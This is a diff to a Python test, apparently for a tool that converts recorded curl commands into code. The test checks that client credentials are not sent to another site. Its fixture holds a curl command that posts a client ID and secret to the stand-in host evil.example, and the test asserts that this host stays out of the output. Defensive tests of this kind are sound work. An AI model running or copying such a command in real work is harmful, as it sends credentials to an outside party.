@@ -250,8 +250,8 @@ async def test_a_recording_of_several_hosts(deliver, sent):
 
 
 def test_the_token_of_a_recording_is_not_exchanged_at_another_site(deliver):
-    login = "curl https://evil.example/token -d grant_type=client_credentials -d client_id=abc -d client_secret=hush"
-    delivered = deliver(f"{login}\n{bearer_curl(f'{GOOD}/items')}")
+    body = "-d grant_type=client_credentials -d client_id=abc -d client_secret=hush"
+    delivered = deliver(f"curl https://evil.example/token {body}\n{bearer_curl(f'{GOOD}/items')}")
 
     assert "is ready" not in delivered.printed
     assert "evil.example" not in delivered.read("good.py")
